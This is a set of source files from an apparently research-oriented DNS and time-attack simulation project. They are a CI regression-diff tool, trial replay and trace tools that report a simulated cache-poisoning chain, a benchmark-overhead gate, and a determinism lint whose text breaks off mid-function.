// campaign_diff — significance-annotated regression detection between two
// campaigns: the regression gate every perf and scenario PR runs in CI.
//
// Usage: campaign_diff BASELINE CANDIDATE [--alpha A]
//                      [--fail-on-regression THRESH] [--json] [--out PATH]
//
//   BASELINE / CANDIDATE   a campaign report JSON file, or a trial-journal
//                          directory (read via store::read_report)
//   --alpha A              significance level for verdict annotation
//                          (default 0.05)
//   --fail-on-regression T exit 1 if any scenario vanished from the
//                          candidate or any metric moved with p < T
//   --json                 machine-readable diff instead of the table
//   --out PATH             write the diff to PATH instead of stdout
//
// Exit codes (the CI contract):
//   0  diff computed; no gate requested, or the gate passed
//   1  --fail-on-regression given and a regression was detected
//   2  usage error, unreadable input, or malformed report JSON
//
// Against a pinned baseline artifact, any statistically significant
// movement — including an "improvement" — means the committed baseline no
// longer describes the code, so the gate counts every significant delta.
#include <cerrno>
#include <cmath>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

#include "campaign/diff/diff.h"
#include "campaign/diff/report_reader.h"

using namespace dnstime;

namespace {

void usage(const char* prog) {
  std::fprintf(stderr,
               "usage: %s BASELINE CANDIDATE [--alpha A]\n"
               "       [--fail-on-regression THRESH] [--json] [--out PATH]\n"
               "  BASELINE/CANDIDATE: report JSON file or journal "
               "directory\n",
               prog);
}

/// Strict probability parse: a full floating-point token in (0, 1].
/// Garbage, trailing junk, negatives and 0 are errors — the same
/// no-silent-zeros rule the campaign CLI enforces for integers.
bool parse_probability(const char* s, double& out) {
  if (s == nullptr || *s == '\0') return false;
  errno = 0;
  char* end = nullptr;
  double v = std::strtod(s, &end);
  if (errno == ERANGE || *end != '\0' || !std::isfinite(v)) return false;
  if (v <= 0.0 || v > 1.0) return false;
  out = v;
  return true;
}

}  // namespace

int main(int argc, char** argv) {
  std::vector<const char*> inputs;
  campaign::diff::DiffOptions options;
  bool gate = false;
  double gate_threshold = 0.05;
  bool json = false;
  std::string out_path;

  for (int i = 1; i < argc; ++i) {
    const char* arg = argv[i];
    if (std::strcmp(arg, "--json") == 0) {
      json = true;
    } else if (std::strcmp(arg, "--alpha") == 0 ||
               std::strcmp(arg, "--fail-on-regression") == 0 ||
               std::strcmp(arg, "--out") == 0) {
      if (i + 1 >= argc) {
        std::fprintf(stderr, "%s: flag '%s' requires a value\n", argv[0],
                     arg);
        usage(argv[0]);
        return 2;
      }
      const char* value = argv[++i];
      if (std::strcmp(arg, "--out") == 0) {
        out_path = value;
      } else {
        double parsed = 0.0;
        if (!parse_probability(value, parsed)) {
          std::fprintf(stderr,
                       "%s: invalid value '%s' for flag '%s' "
                       "(want a probability in (0, 1])\n",
                       argv[0], value, arg);
          usage(argv[0]);
          return 2;
        }
        if (std::strcmp(arg, "--alpha") == 0) {
          options.alpha = parsed;
        } else {
          gate = true;
          gate_threshold = parsed;
        }
      }
    } else if (arg[0] == '-' && arg[1] != '\0') {
      std::fprintf(stderr, "%s: unknown flag '%s'\n", argv[0], arg);
      usage(argv[0]);
      return 2;
    } else {
      inputs.push_back(arg);
    }
  }
  if (inputs.size() != 2) {
    std::fprintf(stderr, "%s: expected exactly two inputs, got %zu\n",
                 argv[0], inputs.size());
    usage(argv[0]);
    return 2;
  }

  campaign::CampaignReport baseline, candidate;
  try {
    baseline = campaign::diff::load_report(inputs[0]);
    candidate = campaign::diff::load_report(inputs[1]);
  } catch (const std::exception& e) {
    std::fprintf(stderr, "%s: %s\n", argv[0], e.what());
    return 2;
  }

  campaign::diff::DiffResult diff =
      campaign::diff::diff_campaigns(baseline, candidate, options);
  std::string text = json ? diff.to_json() + "\n" : diff.to_table();

  if (out_path.empty()) {
    if (std::fwrite(text.data(), 1, text.size(), stdout) != text.size()) {
      std::fprintf(stderr, "failed writing diff to stdout\n");
      return 2;
    }
  } else {
    std::FILE* f = std::fopen(out_path.c_str(), "w");
    if (f == nullptr) {
      std::fprintf(stderr, "cannot open '%s' for writing: %s\n",
                   out_path.c_str(), std::strerror(errno));
      return 2;
    }
    const bool wrote =
        std::fwrite(text.data(), 1, text.size(), f) == text.size();
    const bool closed = std::fclose(f) == 0;
    if (!wrote || !closed) {
      std::fprintf(stderr, "failed writing diff to '%s'\n", out_path.c_str());
      return 2;
    }
  }

  if (gate) {
    const u32 regressions = diff.regressions(gate_threshold);
    if (regressions > 0) {
      std::fprintf(stderr,
                   "campaign_diff: %u regression(s) at p < %s "
                   "(baseline %s, candidate %s)\n",
                   regressions,
                   campaign::json_number(gate_threshold).c_str(), inputs[0],
                   inputs[1]);
      return 1;
    }
  }
  return 0;
}
