// attack_narrative: replay one campaign trial with the failure flight
// recorder attached and print its causal attack chain — which spoofed
// fragment was reassembled, which cache entry it poisoned, which client
// adopted the poisoned answer, and where the chain broke.
//
// The trial is identified exactly the way the campaign runner identifies
// it — (campaign seed, scenario name, trial index) — and the recorder
// observes sim time only, so `--json` reproduces, byte for byte, the
// narrative dump a campaign run with `--dump` writes for the same trial.
//
// Usage:
//   attack_narrative SCENARIO [--trial N] [--seed S] [--json] [--out FILE]
//   attack_narrative --list
//
//   SCENARIO     built-in scenario name (e.g. forensics/frag-filter)
//   --trial N    trial index within the scenario (default 0)
//   --seed S     campaign seed (default 0x5eed, the CampaignConfig default)
//   --json       emit the deterministic narrative JSON instead of text
//   --out FILE   write there instead of stdout
//   --list       print the built-in scenario names and exit
#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

#include "campaign/runner.h"
#include "campaign/scenario_spec.h"
#include "campaign/trial.h"
#include "obs/provenance.h"

using namespace dnstime;

namespace {

void usage(const char* prog) {
  std::fprintf(
      stderr,
      "usage: %s SCENARIO [--trial N] [--seed S] [--json] [--out FILE]\n"
      "       %s --list\n",
      prog, prog);
}

bool parse_u64_token(const char* s, u64& out) {
  if (s == nullptr || *s == '\0') return false;
  if (s[0] < '0' || s[0] > '9') return false;
  errno = 0;
  char* end = nullptr;
  unsigned long long v = std::strtoull(s, &end, 10);
  if (errno == ERANGE || *end != '\0') return false;
  out = v;
  return true;
}

/// Human-readable chain + ring summary (the `--json` form is produced by
/// FlightRecorder::to_json and shared with the campaign runner's dumps).
std::string render_text(const obs::FlightRecorder& flight,
                        const campaign::ScenarioSpec& spec,
                        const campaign::TrialContext& ctx,
                        const campaign::TrialResult& result) {
  char line[256];
  std::string out;
  std::snprintf(line, sizeof line, "%s trial %u (campaign seed %llu, trial seed %llu)\n",
                spec.name.c_str(), ctx.trial,
                static_cast<unsigned long long>(ctx.campaign_seed),
                static_cast<unsigned long long>(ctx.seed));
  out += line;
  if (!result.error.empty()) {
    out += "result: ERROR: " + result.error + "\n";
  } else {
    std::snprintf(line, sizeof line,
                  "result: %s, duration %.1f s, clock shift %.1f s\n",
                  result.success ? "SUCCESS (clock shifted)"
                                 : "FAILED (clock not shifted)",
                  result.duration_s, result.clock_shift_s);
    out += line;
  }
  out += "\ncausal chain:\n";
  const char* broke = flight.chain_broke_at(result.success);
  for (std::size_t i = 0; i < obs::kChainStageCount; ++i) {
    const auto stage = static_cast<obs::ChainStage>(i);
    const char* name = obs::to_string(stage);
    u64 count = stage == obs::ChainStage::kClockShifted
                    ? (result.success ? 1 : 0)
                    : flight.chain(stage).count;
    std::snprintf(line, sizeof line, "  [%c] %-28s", count > 0 ? 'x' : ' ',
                  name);
    out += line;
    if (count > 0 && stage != obs::ChainStage::kClockShifted) {
      const obs::FlightRecorder::ChainPoint& cp = flight.chain(stage);
      std::snprintf(line, sizeof line, " x%-8llu first @ %.3f s",
                    static_cast<unsigned long long>(count),
                    static_cast<double>(cp.first_ts_ns) / 1e9);
      out += line;
      if (cp.first_ref_seq != 0) {
        std::snprintf(line, sizeof line, "  packet #%u", cp.first_ref_seq);
        out += line;
      }
      if (cp.detail[0] != '\0') {
        out += "  ";
        out += cp.detail;
      }
    } else if (count > 0) {
      out += " (trial succeeded)";
    } else if (broke != nullptr && std::strcmp(name, broke) == 0) {
      out += " <-- attack broke here";
    }
    out += "\n";
  }
  const char* reached = flight.chain_reached(result.success);
  out += "\nchain reached: ";
  out += reached != nullptr ? reached : "(nothing)";
  if (broke != nullptr) {
    out += ", broke at: ";
    out += broke;
  }
  out += "\n";
  std::snprintf(line, sizeof line,
                "ring: %zu of %llu events held (%llu overwritten), "
                "%llu packets stamped\n",
                flight.size(),
                static_cast<unsigned long long>(flight.recorded()),
                static_cast<unsigned long long>(flight.overwritten()),
                static_cast<unsigned long long>(flight.stamps()));
  out += line;
  return out;
}

}  // namespace

int main(int argc, char** argv) {
  std::string scenario_name;
  std::string out_path;
  u64 campaign_seed = 0x5eed;
  u64 trial = 0;
  bool list = false;
  bool json = false;

  for (int i = 1; i < argc; ++i) {
    const char* arg = argv[i];
    if (std::strcmp(arg, "--list") == 0) {
      list = true;
      continue;
    }
    if (std::strcmp(arg, "--json") == 0) {
      json = true;
      continue;
    }
    const bool takes_value = std::strcmp(arg, "--trial") == 0 ||
                             std::strcmp(arg, "--seed") == 0 ||
                             std::strcmp(arg, "--out") == 0;
    if (takes_value) {
      if (i + 1 >= argc) {
        std::fprintf(stderr, "%s: flag '%s' requires a value\n", argv[0], arg);
        usage(argv[0]);
        return 2;
      }
      const char* value = argv[++i];
      if (std::strcmp(arg, "--out") == 0) {
        out_path = value;
      } else {
        u64 parsed = 0;
        if (!parse_u64_token(value, parsed)) {
          std::fprintf(stderr, "%s: invalid value '%s' for flag '%s'\n",
                       argv[0], value, arg);
          usage(argv[0]);
          return 2;
        }
        if (std::strcmp(arg, "--trial") == 0) {
          trial = parsed;
        } else {
          campaign_seed = parsed;
        }
      }
      continue;
    }
    if (arg[0] == '-') {
      std::fprintf(stderr, "%s: unknown flag '%s'\n", argv[0], arg);
      usage(argv[0]);
      return 2;
    }
    if (!scenario_name.empty()) {
      std::fprintf(stderr, "%s: more than one scenario given\n", argv[0]);
      usage(argv[0]);
      return 2;
    }
    scenario_name = arg;
  }

#if !DNSTIME_OBS
  std::fprintf(stderr,
               "%s: this build has DNSTIME_OBS=0; provenance recording is "
               "compiled out and narratives would be empty\n",
               argv[0]);
  return 2;
#endif

  const campaign::ScenarioRegistry registry =
      campaign::ScenarioRegistry::builtin();
  if (list) {
    for (const campaign::ScenarioSpec& spec : registry.all()) {
      std::printf("%s\n", spec.name.c_str());
    }
    return 0;
  }
  if (scenario_name.empty()) {
    usage(argv[0]);
    return 2;
  }
  const campaign::ScenarioSpec* spec = registry.find(scenario_name);
  if (spec == nullptr) {
    std::fprintf(stderr, "%s: unknown scenario '%s'; valid names:\n", argv[0],
                 scenario_name.c_str());
    for (const campaign::ScenarioSpec& s : registry.all()) {
      std::fprintf(stderr, "  %s\n", s.name.c_str());
    }
    return 2;
  }
  if (trial > 0xFFFFFFFFull) {
    std::fprintf(stderr, "%s: trial index out of range\n", argv[0]);
    return 2;
  }

  campaign::TrialContext ctx;
  ctx.campaign_seed = campaign_seed;
  ctx.trial = static_cast<u32>(trial);
  ctx.seed = campaign::CampaignRunner::trial_seed(campaign_seed, *spec,
                                                  ctx.trial);

  // Replay exactly as the campaign runner does: meta set before the trial
  // builds its World, exceptions folded into TrialResult::error, the error
  // recorded — so the dump bytes match a runner `--dump` of this trial.
  obs::FlightRecorder flight;
  flight.set_meta(spec->name, campaign_seed, ctx.trial, ctx.seed);
  campaign::TrialResult result;
  {
    obs::ScopedFlightRecorder install(&flight);
    try {
      result = campaign::run_trial(*spec, ctx);
    } catch (const std::exception& e) {
      result.trial = ctx.trial;
      result.seed = ctx.seed;
      result.error = e.what();
    } catch (...) {
      result.trial = ctx.trial;
      result.seed = ctx.seed;
      result.error = "unknown exception";
    }
  }
  if (!result.error.empty()) flight.error(result.error);

  std::string text;
  if (json) {
    obs::FlightRecorder::DumpContext dctx;
    dctx.has_result = true;
    dctx.success = result.success;
    dctx.duration_s = result.duration_s;
    dctx.clock_shift_s = result.clock_shift_s;
    dctx.error = result.error;
    text = flight.to_json(dctx);  // no trailing newline: matches --dump
  } else {
    text = render_text(flight, *spec, ctx, result);
  }

  std::FILE* f =
      out_path.empty() ? stdout : std::fopen(out_path.c_str(), "wb");
  if (f == nullptr) {
    std::fprintf(stderr, "%s: cannot open '%s' for writing: %s\n", argv[0],
                 out_path.c_str(), std::strerror(errno));
    return 1;
  }
  const bool wrote =
      std::fwrite(text.data(), 1, text.size(), f) == text.size();
  const bool closed = out_path.empty() || std::fclose(f) == 0;
  if (!wrote || !closed) {
    std::fprintf(stderr, "%s: failed writing narrative\n", argv[0]);
    return 1;
  }
  return 0;
}
