// trial_trace: replay one campaign trial with the sim-time tracer attached
// and emit its Chrome trace_event JSON.
//
// The trial is identified exactly the way the campaign runner identifies
// it — (campaign seed, scenario name, trial index) — so the timeline this
// tool writes is the timeline that trial had (or will have) inside any
// campaign with the same seed: trace a slow or failing trial from a report
// without re-running the whole campaign.
//
// Usage:
//   trial_trace SCENARIO [--trial N] [--seed S] [--out FILE]
//   trial_trace --trace-index N [--trials T] [--seed S] [--out FILE]
//   trial_trace --list
//
//   SCENARIO        built-in scenario name (e.g. table2/ntpd-p1), or its
//                   FNV-1a name hash — the journal record key, decimal or
//                   0x-hex — so a scenario can be looked up straight from
//                   a journal shard or a report without knowing its name
//   --trial N       trial index within the scenario (default 0)
//   --trace-index N flattened trial index as the campaign runner counts
//                   them (scenario_index * trials + trial_index over the
//                   built-in registry); an alternative to SCENARIO/--trial
//   --trials T      trials per scenario used to unflatten --trace-index
//                   (default 8, the CampaignConfig default)
//   --seed S        campaign seed (default 0x5eed)
//   --out FILE      write the JSON there instead of stdout
//   --list          print the built-in scenario names and exit
//
// Open the output in Perfetto (ui.perfetto.dev) or chrome://tracing; the
// trial summary goes to stderr so stdout stays valid JSON when piped.
#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

#include "campaign/runner.h"
#include "campaign/scenario_spec.h"
#include "campaign/store/journal.h"
#include "campaign/trial.h"
#include "obs/trace.h"

using namespace dnstime;

namespace {

void usage(const char* prog) {
  std::fprintf(
      stderr,
      "usage: %s SCENARIO [--trial N] [--seed S] [--out FILE]\n"
      "       %s --trace-index N [--trials T] [--seed S] [--out FILE]\n"
      "       %s --list\n",
      prog, prog, prog);
}

bool parse_u64_token(const char* s, u64& out) {
  if (s == nullptr || *s == '\0') return false;
  if (s[0] < '0' || s[0] > '9') return false;
  errno = 0;
  char* end = nullptr;
  unsigned long long v = std::strtoull(s, &end, 10);
  if (errno == ERANGE || *end != '\0') return false;
  out = v;
  return true;
}

/// Accepts the journal-key forms of a scenario hash: 0x-prefixed hex or a
/// plain decimal u64.
bool parse_hash_token(const char* s, u64& out) {
  if (s != nullptr && s[0] == '0' && (s[1] == 'x' || s[1] == 'X') &&
      s[2] != '\0') {
    errno = 0;
    char* end = nullptr;
    unsigned long long v = std::strtoull(s + 2, &end, 16);
    if (errno != ERANGE && *end == '\0') {
      out = v;
      return true;
    }
    return false;
  }
  return parse_u64_token(s, out);
}

/// Scenario lookup by name, falling back to the FNV-1a name hash that
/// keys journal records (so `trial_trace 0xdeadbeef...` works straight
/// from a shard dump). Returns nullptr when neither matches.
const campaign::ScenarioSpec* find_scenario(
    const campaign::ScenarioRegistry& registry, const std::string& token) {
  if (const campaign::ScenarioSpec* spec = registry.find(token)) return spec;
  u64 hash = 0;
  if (!parse_hash_token(token.c_str(), hash)) return nullptr;
  for (const campaign::ScenarioSpec& spec : registry.all()) {
    if (campaign::store::fnv1a(spec.name) == hash) return &spec;
  }
  return nullptr;
}

void list_names(const char* prog, const campaign::ScenarioRegistry& registry) {
  std::fprintf(stderr, "%s: valid scenario names:\n", prog);
  for (const campaign::ScenarioSpec& spec : registry.all()) {
    std::fprintf(stderr, "  %s\n", spec.name.c_str());
  }
}

}  // namespace

int main(int argc, char** argv) {
  std::string scenario_name;
  std::string out_path;
  u64 campaign_seed = 0x5eed;
  u64 trial = 0;
  u64 trace_index = 0;
  u64 trials_per_scenario = 8;  // the CampaignConfig default
  bool have_trace_index = false;
  bool list = false;

  for (int i = 1; i < argc; ++i) {
    const char* arg = argv[i];
    if (std::strcmp(arg, "--list") == 0) {
      list = true;
      continue;
    }
    const bool takes_value = std::strcmp(arg, "--trial") == 0 ||
                             std::strcmp(arg, "--seed") == 0 ||
                             std::strcmp(arg, "--trace-index") == 0 ||
                             std::strcmp(arg, "--trials") == 0 ||
                             std::strcmp(arg, "--out") == 0;
    if (takes_value) {
      if (i + 1 >= argc) {
        std::fprintf(stderr, "%s: flag '%s' requires a value\n", argv[0], arg);
        usage(argv[0]);
        return 2;
      }
      const char* value = argv[++i];
      if (std::strcmp(arg, "--out") == 0) {
        out_path = value;
      } else {
        u64 parsed = 0;
        if (!parse_u64_token(value, parsed)) {
          std::fprintf(stderr, "%s: invalid value '%s' for flag '%s'\n",
                       argv[0], value, arg);
          usage(argv[0]);
          return 2;
        }
        if (std::strcmp(arg, "--trial") == 0) {
          trial = parsed;
        } else if (std::strcmp(arg, "--trace-index") == 0) {
          trace_index = parsed;
          have_trace_index = true;
        } else if (std::strcmp(arg, "--trials") == 0) {
          if (parsed == 0) {
            std::fprintf(stderr, "%s: '--trials' must be at least 1\n",
                         argv[0]);
            usage(argv[0]);
            return 2;
          }
          trials_per_scenario = parsed;
        } else {
          campaign_seed = parsed;
        }
      }
      continue;
    }
    if (arg[0] == '-') {
      std::fprintf(stderr, "%s: unknown flag '%s'\n", argv[0], arg);
      usage(argv[0]);
      return 2;
    }
    if (!scenario_name.empty()) {
      std::fprintf(stderr, "%s: more than one scenario given\n", argv[0]);
      usage(argv[0]);
      return 2;
    }
    scenario_name = arg;
  }

  const campaign::ScenarioRegistry registry =
      campaign::ScenarioRegistry::builtin();
  if (list) {
    for (const campaign::ScenarioSpec& spec : registry.all()) {
      std::printf("%s\n", spec.name.c_str());
    }
    return 0;
  }
  if (scenario_name.empty() && !have_trace_index) {
    usage(argv[0]);
    return 2;
  }
  if (!scenario_name.empty() && have_trace_index) {
    std::fprintf(stderr,
                 "%s: give either SCENARIO or '--trace-index', not both\n",
                 argv[0]);
    usage(argv[0]);
    return 2;
  }
  const campaign::ScenarioSpec* spec = nullptr;
  if (have_trace_index) {
    // The campaign runner's flattening: scenario_index * trials + trial.
    const u64 total = registry.all().size() * trials_per_scenario;
    if (trace_index >= total) {
      std::fprintf(stderr,
                   "%s: trace index %llu out of range: %zu built-in "
                   "scenarios x %llu trials = %llu flattened trials\n",
                   argv[0], static_cast<unsigned long long>(trace_index),
                   registry.all().size(),
                   static_cast<unsigned long long>(trials_per_scenario),
                   static_cast<unsigned long long>(total));
      return 2;
    }
    spec = &registry.all()[trace_index / trials_per_scenario];
    trial = trace_index % trials_per_scenario;
  } else {
    spec = find_scenario(registry, scenario_name);
    if (spec == nullptr) {
      std::fprintf(stderr,
                   "%s: unknown scenario '%s' (not a built-in name or "
                   "FNV-1a name hash)\n",
                   argv[0], scenario_name.c_str());
      list_names(argv[0], registry);
      return 2;
    }
  }
  if (trial > 0xFFFFFFFFull) {
    std::fprintf(stderr, "%s: trial index out of range\n", argv[0]);
    return 2;
  }

  campaign::TrialContext ctx;
  ctx.campaign_seed = campaign_seed;
  ctx.trial = static_cast<u32>(trial);
  ctx.seed = campaign::CampaignRunner::trial_seed(campaign_seed, *spec,
                                                  ctx.trial);

  obs::TraceRecorder recorder;
  recorder.set_meta(spec->name, campaign_seed, ctx.trial);
  campaign::TrialResult result;
  {
    obs::ScopedTrace install(&recorder);
    try {
      result = campaign::run_trial(*spec, ctx);
    } catch (const std::exception& e) {
      std::fprintf(stderr, "%s: trial threw: %s\n", argv[0], e.what());
      return 1;
    }
  }

  std::fprintf(stderr,
               "%s trial %u (seed %llu): %s, duration %.1f s, shift %.1f s, "
               "%zu trace events%s\n",
               spec->name.c_str(), ctx.trial,
               static_cast<unsigned long long>(ctx.seed),
               result.error.empty()
                   ? (result.success ? "success" : "no success")
                   : result.error.c_str(),
               result.duration_s, result.clock_shift_s, recorder.size(),
               recorder.dropped() > 0 ? " (events dropped!)" : "");

  const std::string json = recorder.to_json() + "\n";
  std::FILE* f = out_path.empty() ? stdout : std::fopen(out_path.c_str(), "wb");
  if (f == nullptr) {
    std::fprintf(stderr, "%s: cannot open '%s' for writing: %s\n", argv[0],
                 out_path.c_str(), std::strerror(errno));
    return 1;
  }
  const bool wrote = std::fwrite(json.data(), 1, json.size(), f) ==
                     json.size();
  const bool closed = out_path.empty() || std::fclose(f) == 0;
  if (!wrote || !closed) {
    std::fprintf(stderr, "%s: failed writing trace\n", argv[0]);
    return 1;
  }
  return 0;
}
