#!/usr/bin/env python3
"""Instrumentation-overhead gate for the hot-path benches.

Compares two runs of the same bench JSON (bench_eventloop_bench /
bench_netstack_bench --out format): one built with the observability
macros compiled in (the default build) and one with -DDNSTIME_OBS=OFF.
The geometric-mean ratio of the instrumented build's per-workload "new"
throughput to the uninstrumented build's must stay at or above the
threshold (default 0.98, the repo's <=2% overhead budget).

The same comparison gates the failure flight recorder: a bench run with
`--flight-recorder --baseline-out BASE.json` times every workload with
the recorder off and on in the same process and writes the recorder-off
side to BASE.json, so `check_bench_overhead.py OUT.json BASE.json`
holds the recorder to the identical budget.

Usage:
  check_bench_overhead.py INSTRUMENTED.json UNINSTRUMENTED.json \
      [--threshold 0.98]

Exit codes: 0 pass, 1 overhead budget exceeded, 2 usage/input error.
"""

import argparse
import json
import math
import sys


def throughputs(report):
    """Per-workload name -> new-path throughput (events or packets /sec)."""
    out = {}
    for w in report.get("workloads", []):
        for key, value in w.items():
            if key.startswith("new_") and key.endswith("_per_sec"):
                out[w["name"]] = value
    return out


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("instrumented", help="bench JSON from the default build")
    parser.add_argument("uninstrumented", help="bench JSON from -DDNSTIME_OBS=OFF")
    parser.add_argument("--threshold", type=float, default=0.98,
                        help="minimum geomean throughput ratio (default 0.98)")
    args = parser.parse_args()

    try:
        with open(args.instrumented) as f:
            inst = json.load(f)
        with open(args.uninstrumented) as f:
            base = json.load(f)
    except (OSError, ValueError) as e:
        print(f"error: {e}", file=sys.stderr)
        return 2

    inst_tp, base_tp = throughputs(inst), throughputs(base)
    common = sorted(set(inst_tp) & set(base_tp))
    if not common:
        print("error: no common workloads between the two reports",
              file=sys.stderr)
        return 2

    log_sum = 0.0
    print(f"{'workload':24} {'instrumented':>14} {'baseline':>14} {'ratio':>7}")
    for name in common:
        ratio = inst_tp[name] / base_tp[name]
        log_sum += math.log(ratio)
        print(f"{name:24} {inst_tp[name]:14.0f} {base_tp[name]:14.0f} "
              f"{ratio:7.3f}")
    geomean = math.exp(log_sum / len(common))
    budget = (1.0 - args.threshold) * 100.0
    print(f"{'geomean':24} {'':14} {'':14} {geomean:7.3f}  "
          f"(budget: >= {args.threshold})")
    if geomean < args.threshold:
        print(f"FAIL: instrumentation overhead exceeds {budget:.0f}% budget",
              file=sys.stderr)
        return 1
    print("OK: instrumentation overhead within budget")
    return 0


if __name__ == "__main__":
    sys.exit(main())
