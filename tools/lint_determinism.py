#!/usr/bin/env python3
"""Determinism lint for the simulation/campaign/obs sources.

The repo's core contract is that a campaign report is a pure function of
its seed: byte-identical at any thread count, across resume, and across
machines.  This lint walks the directories that own that contract
(src/sim, src/campaign, src/obs) and rejects the constructs that break it:

  wallclock    reads of the host clock (std::chrono::*_clock::now, time(),
               gettimeofday, clock_gettime, localtime/gmtime).  Simulation
               logic must use sim::Time; wall time is allowed only in the
               telemetry layer, which is explicitly outside the
               byte-identity contract, and only with an annotation.
  rand         libc / nondeterministic randomness: rand(), srand(),
               drand48, std::random_device.  All randomness must flow from
               the seeded common/rng.h generators.
  unordered-iter  iteration over std::unordered_map/std::unordered_set.
               Hash-table iteration order depends on libstdc++ version,
               seed and insertion history; iterating one into any output
               or accumulation leaks that order into results.  Lookups
               are fine; iteration needs an ordered container or an
               annotation proving the order cannot reach a report.
  address      address-dependent values: %p, pointer->integer casts,
               std::hash over pointers.  Addresses differ run to run
               (ASLR), so they must never feed reports or seeds.
  thread-id    thread identity (std::this_thread::get_id, pthread_self,
               gettid).  Which worker executes a trial is scheduling-
               dependent, so a thread id reaching any recorded event or
               report breaks cross-thread-count byte identity.  The
               provenance/flight-recorder layer (src/obs) must label
               events with sim-derived ids only.
  pid          process identity (getpid, getppid).  The multi-process
               analogue of thread-id: which OS pid a distributed worker
               gets is spawn-order and host dependent, so a pid reaching
               a shard, report or progress byte breaks the cross-process
               byte-identity contract (src/campaign/dist).  Worker
               identity must be the coordinator-assigned worker id.

Waivers: a finding is suppressed when the offending line — or the line
directly above it — carries

    det-lint: allow(<rule>) <justification>

inside a comment.  The justification is mandatory (the annotation is the
inline audit trail the CI gate points reviewers at).

Exit status: 0 clean, 1 findings, 2 usage error.  Used both as a ctest
test and as a CI job, so keep the output format stable:
  <file>:<line>: [<rule>] <message>
"""

from __future__ import annotations

import argparse
import re
import sys
from pathlib import Path

DEFAULT_DIRS = ["src/sim", "src/campaign", "src/obs"]
SUFFIXES = {".h", ".cpp"}

ALLOW_RE = re.compile(r"det-lint:\s*allow\((?P<rule>[a-z-]+)\)\s*(?P<why>\S.*)?")

RULES = {
    "wallclock": [
        re.compile(r"\b(system_clock|steady_clock|high_resolution_clock)\b"),
        re.compile(r"\b(gettimeofday|clock_gettime|timespec_get)\s*\("),
        re.compile(r"\b(localtime|gmtime|mktime|strftime)\s*\("),
        re.compile(r"\btime\s*\(\s*(NULL|nullptr|0|&)"),
    ],
    "rand": [
        re.compile(r"\b(rand|srand|random|srandom|drand48|lrand48)\s*\("),
        re.compile(r"\brandom_device\b"),
    ],
    "address": [
        re.compile(r"%p\b"),
        re.compile(r"reinterpret_cast<\s*(std::)?u?intptr_t\s*>"),
        re.compile(r"static_cast<\s*(std::)?u?intptr_t\s*>"),
        re.compile(r"std::hash<[^<>]*\*\s*>"),
    ],
    "thread-id": [
        re.compile(r"\bthis_thread\s*::\s*get_id\s*\("),
        re.compile(r"\bpthread_self\s*\("),
        re.compile(r"\bgettid\s*\("),
        re.compile(r"\bthread\s*::\s*id\b"),
    ],
    "pid": [
        re.compile(r"\bgetpid\s*\("),
        re.compile(r"\bgetppid\s*\("),
    ],
}

DECL_RE = re.compile(
    r"unordered_(?:map|set|multimap|multiset)\s*<[^;{]*?>\s+(\w+)\s*[;{=(,)]"
)
RANGE_FOR_RE = re.compile(r"for\s*\([^;()]*?:\s*(?:\*?)(\w+)(?:\.|->)?\s*\)")
BEGIN_RE = re.compile(r"\b(\w+)\s*(?:\.|->)\s*c?begin\s*\(")


def strip_comments_keep_lines(text: str) -> list[str]:
    """Remove comments and string-literal bodies, preserving line structure.

    String bodies are kept for the 'address' rule (format strings), so we
    only strip comments here and let callers decide.  Block comments are
    blanked in place; line comments are cut at the first // outside a
    string literal.
    """
    out = []
    in_block = False
    for line in text.splitlines():
        buf = []
        i = 0
        in_str: str | None = None
        while i < len(line):
            c = line[i]
            nxt = line[i + 1] if i + 1 < len(line) else ""
            if in_block:
                if c == "*" and nxt == "/":
                    in_block = False
                    i += 2
                    continue
                i += 1
                continue
            if in_str:
                buf.append(c)
                if c == "\\":
                    if i + 1 < len(line):
                        buf.append(nxt)
                    i += 2
                    continue
                if c == in_str:
                    in_str = None
                i += 1
                continue
            if c in "\"'":
                in_str = c
                buf.append(c)
                i += 1
                continue
            if c == "/" and nxt == "/":
                break
            if c == "/" and nxt == "*":
                in_block = True
                i += 2
                continue
            buf.append(c)
            i += 1
        out.append("".join(buf))
    return out


class Finding:
    def __init__(self, path: Path, line: int, rule: str, message: str):
        self.path, self.line, self.rule, self.message = path, line, rule, message

    def __str__(self) -> str:
        return f"{self.path}:{self.line}: [{self.rule}] {self.message}"


def allowed(raw_lines: list[str], idx: int, rule: str,
            problems: list[Finding], path: Path) -> bool:
    """True iff line idx (0-based) or the line above carries a waiver."""
    for j in (idx, idx - 1):
        if j < 0:
            continue
        m = ALLOW_RE.search(raw_lines[j])
        if m and m.group("rule") == rule:
            if not m.group("why"):
                problems.append(Finding(
                    path, j + 1, rule,
                    "det-lint waiver without a justification"))
            return True
    return False


def scan_file(path: Path, unordered_names: set[str]) -> list[Finding]:
    raw = path.read_text(encoding="utf-8").splitlines()
    code = strip_comments_keep_lines("\n".join(raw))
    findings: list[Finding] = []

    for idx, line in enumerate(code):
        for rule, patterns in RULES.items():
            for pat in patterns:
                if pat.search(line):
                    if not allowed(raw, idx, rule, findings, path):
                        findings.append(Finding(
                            path, idx + 1, rule,
                            f"forbidden pattern '{pat.pattern}'"))
                    break  # one finding per rule per line

        for pat in (RANGE_FOR_RE, BEGIN_RE):
            m = pat.search(line)
            if m and m.group(1) in unordered_names:
                if not allowed(raw, idx, "unordered-iter", findings, path):
                    findings.append(Finding(
                        path, idx + 1, "unordered-iter",
                        f"iteration over unordered container "
                        f"'{m.group(1)}' leaks hash order"))
    return findings


def collect_unordered_names(files: list[Path]) -> set[str]:
    names: set[str] = set()
    for path in files:
        code = "\n".join(
            strip_comments_keep_lines(path.read_text(encoding="utf-8")))
        for m in DECL_RE.finditer(code):
            names.add(m.group(1))
    return names


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("paths", nargs="*", default=None,
                        help=f"files or directories (default: {DEFAULT_DIRS}"
                             " relative to the repo root)")
    args = parser.parse_args()

    root = Path(__file__).resolve().parent.parent
    targets = [Path(p) for p in args.paths] if args.paths else [
        root / d for d in DEFAULT_DIRS]

    files: list[Path] = []
    for t in targets:
        if t.is_dir():
            files.extend(sorted(p for p in t.rglob("*") if p.suffix in SUFFIXES))
        elif t.is_file():
            files.append(t)
        else:
            print(f"lint_determinism: no such path: {t}", file=sys.stderr)
            return 2

    # Two passes: declarations of unordered containers anywhere in the
